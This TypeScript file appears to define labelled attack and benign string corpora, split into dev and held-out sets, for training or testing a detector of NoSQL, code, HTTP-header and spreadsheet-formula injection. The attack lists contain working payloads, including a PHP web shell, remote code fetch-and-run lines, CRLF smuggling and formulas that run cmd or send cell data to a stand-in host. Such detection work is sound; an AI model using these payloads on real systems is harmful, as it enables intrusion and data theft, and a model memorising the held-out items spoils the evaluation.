import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, held, some } from './corpus.ts'

const nosqlCorpus: CategoryCorpus = {
  category: 'nosql_injection',
  attacks: [
    dev(
      'operators for credentials',
      some(
        24,
        cross(
          ['{"username": {"$', '{"password": {"$', '{"email":{"$'],
          ['ne": null}}', 'ne": ""}}', 'gt": ""}}', 'regex": ".*"}}', 'nin": []}}', 'exists": true}}'],
        ),
      ),
    ),
    dev(
      'bracket parameters',
      some(12, cross(['user', 'password', 'login', 'token'], ['[$ne]=', '[$gt]=', '[$regex]='], ['', 'x', '.*'])),
    ),
    held(
      'script conditions',
      carried([
        '{"$where": "sleep(3000)"}',
        '{"$where": "function(){ return true }"}',
        "'; return true; var a='",
        "' || '1'=='1",
        "x' || this.password.match(/^a/)//",
        "'; while(true){}'",
        "{$where: 'this.credits == this.debits || 1==1'}",
        "' && this.role == 'admin",
        "a'; sleep(5000); var b='",
        '{"$where":"this.a[0]"}',
      ]),
    ),
    held('broken objects', [
      "', $or: [ {}, { 'a':'a",
      '", "$where": "1==1',
      '{"name": "x", "$or": [{}, {"a": 1}]}',
      'pass%5B%24ne%5D=1',
      'username[%24regex]=^adm',
      'login[$nin][]=a',
      '{"user":{"$in":["admin"]},"pass":{"$gt":-1}}',
    ]),
  ],
  benign: [
    dev(
      'filters',
      some(
        30,
        cross(
          ['{ ', 'db.items.find({ '],
          [
            'age: { $gt: 18 } }',
            'price: { $lt: 20, $gte: 5 } }',
            'tags: { $in: ["a", "b"] } }',
            'deletedAt: { $ne: null } }',
            '$or: [{ a: 1 }, { b: 2 }] }',
          ],
          ['', ')', ').sort({ a: 1 })'],
        ),
      ),
    ),
    dev('code', [
      "a = b || 'x'",
      "name == 'x' || name == 'y'",
      'filter[$limit]=5',
      "jq '.[] | select(.a > 1)'",
      '$where = "id = 3";',
      '$in = fopen("a");',
      'price in $ (US)',
      'Costs $ne 5',
      '"$set": {"email": "a@h.example"}',
      'user.password = hash(pw)',
      'echo $gt $lt',
      '{"email": "ann@h.example", "password": "x"}',
    ]),
    held('queries and talk', [
      'What does $ne mean in MongoDB?',
      'How do I use $regex with an index?',
      '{"status": {"$in": ["open", "done"]}}',
      'Model.find({ email: req.body.email })',
      'aggregate([{ $match: { a: 1 } }, { $group: { _id: "$b" } }])',
      "';' ends a statement; return true to go on",
      "x = y && 'z'",
      '?filter[name][$contains]=ann',
      '{"created": {"$gte": "2024-01-01"}}',
      '{ $expr: { $gt: ["$a", "$b"] } }',
    ]),
  ],
}

const codeCorpus: CategoryCorpus = {
  category: 'code_injection',
  attacks: [
    dev(
      'python',
      carried(
        some(
          16,
          cross(
            ["__import__('os').", '__import__("subprocess").'],
            ["system('id')", "popen('ls').read()", "check_output('id')"],
            ['', '#', ' + 1'],
          ),
        ),
      ),
    ),
    dev('decode and run', [
      "exec(base64.b64decode('aW1wb3J0IG9z'))",
      "eval(compile('1','a','eval'))",
      '().__class__.__bases__[0].__subclasses__()',
      "'+__import__('os').popen('id').read()+'",
      "x; import os; os.system('id')",
      "__builtins__.__import__('os')",
      "exec(requests.get('http://h.example').text)",
    ]),
    dev('php and node', [
      "<?php system($_GET['c']); ?>",
      "eval($_POST['x']);",
      "@eval(base64_decode('aWQ='));",
      "assert($_REQUEST['a'])",
      "require('child_process').exec('curl h.example')",
      "process.mainModule.require('child_process')",
      "this.constructor.constructor('return process')()",
      '?__proto__[admin]=1',
      '{"__proto__": {"isAdmin": true}}',
    ]),
    held('java and ruby and others', [
      '"".getClass().forName("java.lang.Runtime").getMethod("exec")',
      '"id".execute().text',
      'Runtime.getRuntime().exec("cmd /c calc")',
      'new ProcessBuilder("/bin/sh","-c","id").start()',
      "global.process.mainModule.require('fs')",
      "constructor.constructor('return this')()",
      '{"constructor": {"prototype": {"a": 1}}}',
      '&constructor[prototype][x]=1',
      "importlib.import_module('os').system('id')",
      '[].__class__.__base__.__subclasses__()',
      "eval(bytes.fromhex('61'))",
      '`$_GET[c]`',
      "preg_replace('/x/e', $_GET['a'], 'x')",
      "create_function('', $_POST['x'])",
      "process.binding('spawn_sync')",
    ]),
  ],
  benign: [
    dev('ordinary code', [
      'import os\nos.system("ls")',
      'subprocess.run(["ls"], check=True)',
      'def __init__(self):',
      'eval(expression)',
      'const { exec } = require("child_process")',
      "import { spawn } from 'node:child_process'",
      '$name = $_POST["name"];',
      'echo htmlspecialchars($_GET["q"]);',
      'base64_decode($row["b"])',
      'Class.forName("org.postgresql.Driver")',
      'new ProcessBuilder(cmd).start()',
      'super.constructor(props)',
      'Object.create(null)',
      'obj.__proto__ is deprecated',
      'assert($a === $b)',
      "include 'header.php';",
      'exec(code, globals())',
      'importlib.import_module(name)',
      'type(x).__class__.__name__',
      'process.env.HOME',
    ]),
    dev(
      'talk',
      some(
        40,
        cross(
          ['How do I ', 'Should I ', 'When to '],
          [
            'import a module at run time',
            'run a process from Python',
            'use eval safely',
            'read $_POST',
            'extend a prototype',
          ],
          ['?', ' in tests?', ', and why?'],
        ),
      ),
    ),
    held('tools', [
      "execSync('git rev-parse HEAD')",
      'child_process.fork("./worker.js")',
      'Runtime.getRuntime().freeMemory()',
      '"constructor": "Ferrari"',
      'Foo.prototype.bar = 1',
      'python -c "import sys; print(sys.version)"',
      'php -r "echo 1;"',
      '__all__ = ["a"]',
      'if __name__ == "__main__":',
      'compile(source, "f", "exec")',
      'groovy: println "id"',
      '$_SERVER["REQUEST_URI"]',
    ]),
  ],
}

const headerCorpus: CategoryCorpus = {
  category: 'header_injection',
  attacks: [
    dev(
      'encoded',
      some(
        30,
        cross(
          ['/go?u=x', 'lang=en', 'name=ann'],
          ['%0d%0a', '%0a', '%0D%0A'],
          ['Set-Cookie: a=b', 'Location:%20http://h.example', 'X-Injected: 1', 'Content-Length:0', 'Bcc:all@h.example'],
        ),
      ),
    ),
    dev('split and smuggle', [
      'a%0d%0a%0d%0a<script>alert(1)</script>',
      'x%0d%0aHTTP/1.1%20200%20OK',
      '%0d%0aGET%20/admin',
      '%0aFLUSHALL%0a',
      '%0d%0aMAIL%20FROM:a',
      'q%250d%250aSet-Cookie:a=1',
      'b%0aRCPT TO:c',
    ]),
    held('others', [
      '%E5%98%8A%E5%98%8DSet-Cookie:a=b',
      'a\\r\\nSet-Cookie: s=1',
      'ann@h.example\\nBcc: b@h.example',
      'x%0d%20Location:http://h.example',
      '%u000aSet-Cookie:x=1',
      'v%0d%0aTransfer-Encoding: chunked',
      'w%0a%20Refresh: 0',
      'e%0D%0ACONFIG+SET dir /tmp',
      '%0aCc:x@h.example',
    ]),
  ],
  benign: [
    dev(
      'forms and texts',
      some(
        40,
        cross(
          ['body=', 'text=', 'note='],
          ['Hello%0D%0AHow+are+you', 'line%0Aline', 'a%20b%0A%0Ac', 'to%3A+ann'],
          ['', '&x=1', '%0Abye', '%0D%0A'],
        ),
      ),
    ),
    dev('examples', [
      'HTTP/1.1 200 OK\\r\\nContent-Type: text/html',
      'Set-Cookie: a=b; HttpOnly',
      'To: ann@h.example\nCc: bob@h.example',
      '"a\\r\\nb"',
      'printf("x\\n")',
      'Host: h.example',
      '%0A is a line feed',
      'curl -H "X-A: 1"',
      'Location: Bern',
      'Subject: Hi\nFrom: ann',
    ]),
    held('others', [
      'poem%0Aby%20Ann',
      '\\r\\n ends a line',
      'From: a\\nTo: b',
      'mailto:a@h.example?subject=Hi&body=Dear%20Bob%0A',
      'text/plain;charset=utf-8,%0A',
      'sms:?body=x%0Ay',
      'tweet?text=a%0Ab',
      'split("\\r\\n")',
      'cookie: theme',
      'x-y-z',
    ]),
  ],
}

const formulaCorpus: CategoryCorpus = {
  category: 'formula_injection',
  attacks: [
    dev(
      'commands',
      some(
        20,
        cross(
          ['=', '+', '-', '@SUM(1+1)*'],
          ["cmd|'/C calc'!A0", "powershell|'-c x'!A1", 'cmd|"/c id"!A1', "mshta|'http://h.example'!A0"],
        ),
      ),
    ),
    dev(
      'network',
      some(
        20,
        cross(
          ['='],
          [
            'HYPERLINK("http://h.example/?d="&A1&B1,"x")',
            'WEBSERVICE("http://h.example/?"&A1)',
            'IMPORTXML(CONCAT("http://h.example/?v=",CONCATENATE(A2:E2)),"//a")',
            'IMAGE("https://h.example/?x="&C3)',
            'IMPORTDATA("http://h.example/?q="&A1)',
          ],
          ['', ',ann', ';1'],
        ),
      ),
    ),
    held('others', [
      '=DDE("cmd","/C calc","x")',
      "ann,=cmd|'/C ping h'!A0,3",
      '"=rundll32|\'x,y\'!A"',
      '=IMPORTHTML("http://h.example/"&A1,"table",1)',
      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
      "name;=2+5+cmd|' /C calc'!A0",
      '=IMPORTFEED(CONCAT("http://h.example/",A1))',
      '=EXEC("id")',
    ]),
  ],
  benign: [
    dev(
      'sheets',
      some(
        40,
        cross(
          ['=', 'Use ='],
          [
            'SUM(A1:A3)',
            'IF(A1="cmd",1,0)',
            'HYPERLINK("https://h.example","Home")',
            'IMPORTXML("https://h.example/list","//h2")',
            'VLOOKUP(A1,B:C,2,FALSE)',
            'CONCAT(A1,"|",B1)',
            'IMAGE("https://h.example/a.png")',
          ],
          ['', ';', ' here'],
        ),
      ),
    ),
    dev('text', [
      '- item',
      '+41 44 123 45 67',
      '@ann thanks',
      '=== Title ===',
      '-1',
      '+1 for this',
      'a | b | c',
      '| cmd | meaning |',
      "ls | grep 'x'!",
      'cmd | more',
      '=> arrow',
      '-rw-r--r--',
      '@media print',
      '- run cmd',
      '+++ b/file',
    ]),
    held('others', [
      '=QUERY(A:C,"select A where B > 1")',
      '=ARRAYFORMULA(A1:A&" "&B1:B)',
      '=HYPERLINK("https://h.example/item/"&A2,A2)',
      '=IMPORTRANGE("https://h.example/s","A1:B2")',
      "=IF(B1='x',1,2)",
      '=TEXT(A1,"yyyy")',
      '-exec rm {}',
      '@sum = 3',
      '= cmd',
      '=A1&"|"&A2',
    ]),
  ],
}

export const moreCorpora: readonly CategoryCorpus[] = [nosqlCorpus, codeCorpus, headerCorpus, formulaCorpus]
